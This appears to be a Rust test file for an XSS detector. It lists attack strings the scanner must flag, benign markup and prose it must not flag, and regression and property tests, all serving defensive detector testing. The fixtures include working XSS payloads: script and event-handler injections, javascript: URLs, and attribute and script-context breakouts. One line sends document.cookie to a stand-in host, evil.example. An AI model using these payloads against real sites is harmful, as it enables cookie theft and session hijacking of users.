//! Named cases for the XSS rules: attacks that must be found, markup and prose that must not.
//! Cases are written from attack shapes (OWASP and PortSwigger cheat sheets), not copied from
//! the corpus.

use super::*;

#[track_caller]
fn attack(s: &str) {
    assert!(detect(s.as_bytes()).is_some(), "missed attack: {s:?}");
}

#[track_caller]
fn benign(s: &str) {
    assert_eq!(detect(s.as_bytes()), None, "false positive: {s:?}");
}

#[track_caller]
fn rule(s: &str) -> (Context, String) {
    let d = detect(s.as_bytes()).unwrap_or_else(|| panic!("missed attack: {s:?}"));
    (d.context, d.fingerprint_str().to_string())
}

#[test]
fn script_and_active_content_tags() {
    assert_eq!(
        rule("<script>alert(1)</script>"),
        (Context::Html, "script".into())
    );
    attack("<SCRIPT SRC=//evil.example/x.js></SCRIPT>");
    attack("<script/random>alert(1)</script>");
    attack("<iframe src=//evil.example>");
    attack("<object data=x.swf>");
    attack("<embed src=x.swf>");
    attack("<base href=//evil.example/>");
    attack("<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>");
    attack("<style>@import 'http://evil.example/x.css';</style>");
    attack("<link rel=stylesheet href=//evil.example/x.css>");
    attack("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">");
}

#[test]
fn event_handlers_on_any_tag() {
    assert_eq!(
        rule("<img src=x onerror=alert(1)>"),
        (Context::Html, "evt".into())
    );
    attack("<svg onload=alert(1)>");
    attack("<svg/onload=alert(1)>");
    attack("<math><maction actiontype=statusline onclick=alert(1)>x</maction></math>");
    attack("<body onpageshow=alert(1)>");
    attack("<details open ontoggle=alert(1)>");
    attack("<custom-element onpointerover=alert(1)>hi</custom-element>");
    attack("<img src=x onerror  =  alert(1)");
    attack("<video><source onerror=\"alert(1)\">");
    attack("<input autofocus onfocus=alert`1`>");
    attack("<svg><animate attributeName=onbegin values=alert(1)>");
    attack("<t:set attributename=\"innerhtml\" to=\"&lt;script&gt;alert(1)&lt;/script&gt;\">");
}

#[test]
fn script_urls_in_attributes() {
    assert_eq!(
        rule("<a href=\"javascript:alert(1)\">x</a>"),
        (Context::Html, "jsurl".into())
    );
    attack("<a href=\" JaVaScRiPt:alert(1)\">x</a>");
    attack("<a href=\"jav&#x09;ascript:alert(1)\">x</a>");
    attack("<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">");
    attack("<form action=javascript:alert(1)><input type=submit>");
    attack("<button formaction=javascript:alert(1)>x</button>");
    attack("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">");
    attack("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>");
    attack("<object data=\"data:image/svg+xml,<svg onload=alert(1)>\">");
    attack("<a href=vbscript:msgbox(1)>x</a>");
    attack("<div style=\"width: expression(alert(1))\">");
    attack("<div style=\"background:url(javascript:alert(1))\">");
    attack("<div style=\"-moz-binding:url(//evil.example/x.xml#x)\">");
    attack("<div style=x:expressio&#x5c;6e(alert(1))>");
    attack("<p style=\"x:&#101;xpression(alert(1))\">");
}

#[test]
fn attribute_breakouts() {
    assert_eq!(
        rule("\" onmouseover=\"alert(1)"),
        (Context::Attribute, "evt".into())
    );
    attack("' onfocus='alert(1)' autofocus='");
    attack("\"onmouseover=alert(1) x=\"");
    attack("x\" style=\"x:expression(alert(1))");
    attack("\" href=\"javascript:alert(1)");
    attack("foo onmouseover=alert(1)");
    attack("\"><img src=x onerror=alert(1)>");
    attack("'><svg onload=alert(1)>");
}

/// Regression: `I'm going online = fun` (a line of api-values) was flagged as an attribute
/// break-out with an `online=` handler, reading the apostrophe of `I'm` as the end of an
/// attribute value. An apostrophe inside a word only counts when a handler is glued to it.
#[test]
fn regression_apostrophe_in_a_word_is_not_a_breakout() {
    benign("I'm going online = fun");
    benign("don't worry, onward = forward");
    benign("O'Brien says onboarding = done");
    benign("it's a trap onlooker='x' here");
    attack("x'onfocus='alert(1)' autofocus='");
    attack("I'm x onfocus=alert(1) autofocus");
    attack("it's' onmouseover='alert(1)");
    attack("' online=fun onerror=alert(1) x='");
}

#[test]
fn script_context_breakouts() {
    assert_eq!(rule("';alert(1)//"), (Context::Script, "jsstr".into()));
    attack("\";alert(document.domain);//");
    attack("'-alert(1)-'");
    attack("\"+confirm(1)+\"");
    attack("'});alert(1);//");
    attack("\\';alert(1)//");
    attack("';document.location='http://evil.example/?c='+document.cookie;//");
    attack("${alert(1)}");
    attack("{{constructor.constructor('alert(1)')()}}");
    attack("javascript:alert(document.cookie)");
    attack("  JavaScript:void(fetch('//evil.example'))");
    attack("</script><script>alert(1)</script>");
}

#[test]
fn benign_markup_and_prose() {
    benign("<b>bold</b>");
    benign("<i>it</i>, <em>em</em>, <strong>strong</strong>, <br/>, <p>para</p>");
    benign("<a href=\"/help/faq.html\">FAQ</a>");
    benign("<a href=\"https://example.com/javascript/guide\">guide</a>");
    benign("<img src=\"photo.jpg\" alt=\"Me & my dog\">");
    benign("<span class=\"price\" data-id=\"42\">$5</span>");
    benign("1 < 2 and 3 > 2");
    benign("I <3 this product");
    benign("a<b && b>c");
    benign("<<< click here >>>");
    benign("email me: <john@example.com>");
    benign("O'Reilly's \"Learning JavaScript: the good parts\"");
    benign("one=1&online=true&onion=3");
    benign("turn on the lights; go online");
    benign("He said \"hi\" - then left");
    benign("it's 'quoted' + more");
    benign("javascript tutorial for beginners");
    benign("the alert() function shows a dialog");
    benign("data:image/png;base64,iVBORw0KGgo=");
    benign("```js\nconsole.log('hi')\n```");
    benign("{\"html\":\"<p>Hello</p>\",\"ok\":true}");
    benign("Use <code>onclick</code> handlers carefully");
    benign("price < $10 > $5");
    benign("Hello {{ user.name }}, your order ${total} is ready");
}

#[test]
fn degenerate_inputs() {
    benign("");
    benign("<");
    benign("<<<<<<<<<<<<<<<<");
    benign("\"\"\"\"\"\"\"\"");
    benign("<a");
    benign("<a b=");
    benign("<a b='");
    benign("&#");
    benign("&#x");
}

#[test]
fn many_open_tags_stay_linear() {
    // 200 KB of `<a x='` would be quadratic without the per-tag cap.
    let s = "<a x='".repeat(40_000);
    let t = std::time::Instant::now();
    let _ = detect(s.as_bytes());
    // Generous bound: this is a complexity guard, not a benchmark.
    assert!(t.elapsed() < std::time::Duration::from_secs(5));
}

/// Documentation and code that an earlier version flagged (found by running the detectors over
/// /usr/share/doc): JavaScript and HTML words in prose are not attacks.
#[test]
fn regression_docs_and_code_are_not_xss() {
    benign("<h2 id=\"functions\">function (uh, ahem) functions</h2>");
    benign("add requires to the .pc.in files based on the <import>s in the extensions");
    benign("the url.<base>.insteadof configuration option can be used.");
    benign("<meta http-equiv=\"content-type\" content=\"text/html; charset=utf-8\">");
    benign("<meta http-equiv=\"x-ua-compatible\" content=\"chrome=1\" />");
    benign("onclick: function(){ alert('clicked: ' + this.label); },");
    benign("_.omit({name: 'moe', age: 50, userid: 'moe1'}, function(value, key, object) {");
    benign("var func = function(greeting){ return greeting + ': ' + this.name };");
    benign("use <object> instead of <img> to embed svg");
}

#[test]
fn window_aliases_need_indexing_or_a_sink() {
    attack("';top['al'+'ert'](1)//");
    attack("\";self.alert(1)//");
    benign("it's 'top' - self.improvement");
}

/// The three scans without the gate in front of them.
fn ungated(s: &[u8]) -> bool {
    html::scan_tags(s).is_some()
        || html::attribute_breakout(s).is_some()
        || html::script_context(s).is_some()
}

#[test]
fn gate_passes_every_value_the_scans_flag_in_the_corpora() {
    let mut flagged = 0usize;
    for line in crate::corpus_lines() {
        let lower = line.to_ascii_lowercase();
        for v in [&line[..], &lower[..]] {
            if ungated(v) {
                flagged += 1;
                assert!(
                    html::possible(v),
                    "gate hides {:?}",
                    String::from_utf8_lossy(v)
                );
            }
        }
    }
    // The corpora hold thousands of XSS payloads: the check above must have had work to do.
    assert!(flagged > 3000, "only {flagged} flagged values");
}

#[test]
fn attribute_breakouts_all_hold_an_equals_sign() {
    let mut flagged = 0usize;
    let extra: [&[u8]; 4] = [
        b"\" onfocus=alert(1) autofocus=\"",
        b"x' onmouseover='alert(1)",
        b" onload=alert(1)",
        b"\"><a href=javascript:alert(1)>",
    ];
    let corpus = crate::corpus_lines();
    for line in corpus.iter().map(|l| &l[..]).chain(extra) {
        let lower = line.to_ascii_lowercase();
        for v in [line, &lower[..]] {
            if html::breakouts(v).is_some() {
                flagged += 1;
                assert!(
                    v.contains(&b'='),
                    "attribute_breakout's `=` gate hides {:?}",
                    String::from_utf8_lossy(v)
                );
                assert_eq!(html::attribute_breakout(v), html::breakouts(v));
            }
        }
    }
    assert!(flagged > 1000, "only {flagged} flagged values");
}

#[test]
fn gate_rejects_plain_values() {
    for v in [
        "https://shop.example.com/catalog/shoes?color=black&size=42",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
        "text/html,application/xhtml;q=0.9,*/*;q=0.8",
        "Please leave it at the door; thanks!",
        "Contact: see the online form",
    ] {
        assert!(!html::possible(v.as_bytes()), "{v:?}");
    }
    for v in [
        "x onfocus=alert(1)",
        "onload=alert(1)",
        "\tjavascript:alert(1)",
        "a<b",
        "it's",
        "${x}",
        "+ADw-script+AD4-",
    ] {
        assert!(html::possible(v.as_bytes()), "{v:?}");
    }
}

/// Fragments of HTML and JavaScript soup.
const FRAGS: &[&str] = &[
    "<",
    ">",
    "/",
    "script",
    "img",
    "svg",
    "src",
    "=",
    "x",
    " ",
    "\t",
    "\"",
    "'",
    "`",
    "on",
    "onerror",
    "onload",
    "ONFOCUS",
    "alert",
    "(",
    ")",
    "1",
    ";",
    "-",
    "+",
    "javascript:",
    "java\tscript:",
    "data:text/html,",
    "&#x3c;",
    "{",
    "}",
    "$",
    "{{",
    "constructor",
    "eval",
    "+ADw-",
    "+AD4-",
    "style",
    "expression(",
    "href",
    "a",
    "o",
    "n",
    ":",
    "//",
    "\n",
];

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(20000))]
    /// The gate never hides a detection on HTML and script soup.
    #[test]
    fn gate_never_hides_a_detection(parts in proptest::collection::vec(0..FRAGS.len(), 1..10)) {
        let v: String = parts.iter().map(|&i| FRAGS[i]).collect();
        let b = v.as_bytes();
        proptest::prop_assert!(!ungated(b) || html::possible(b), "gate hides {:?}", v);
    }
}
